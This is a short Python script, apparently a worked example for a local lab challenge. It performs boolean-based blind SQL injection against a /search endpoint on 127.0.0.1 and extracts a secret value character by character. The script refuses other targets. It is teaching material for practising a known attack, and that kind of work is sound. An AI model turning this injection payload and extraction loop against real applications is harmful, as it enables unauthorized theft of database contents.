#!/usr/bin/env python3
"""Worked example: boolean-based blind SQL injection against the LOCAL lab (challenge 1).

The /search endpoint returns results when the condition is true and an empty list when
false. We ask yes/no questions about one character at a time of the secret value.
Only targets http://127.0.0.1:8088 — refuse to run against anything else.
"""
import string
import sys
import urllib.parse
import urllib.request

BASE = "http://127.0.0.1:8088/search"
ALPHABET = string.ascii_letters + string.digits + "{}_"


def truthy(condition: str) -> bool:
    # "Hello" exists, so: Hello' AND <condition> -- returns a row only if condition is true
    payload = f"Hello%' AND ({condition})--"
    url = BASE + "?" + urllib.parse.urlencode({"q": payload})
    with urllib.request.urlopen(url, timeout=5) as resp:
        return b'"Hello"' in resp.read()


def extract(query: str, max_len: int = 64) -> str:
    out = ""
    for pos in range(1, max_len + 1):
        for ch in ALPHABET:
            if truthy(f"substr(({query}),{pos},1)='{ch}'"):
                out += ch
                print(f"\r{out}", end="", flush=True)
                break
        else:
            break  # no character matched: end of string
    print()
    return out


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] != BASE:
        sys.exit("this example only runs against the local lab")
    print("length check:", truthy("length((SELECT value FROM secrets LIMIT 1)) > 5"))
    extract("SELECT value FROM secrets LIMIT 1")
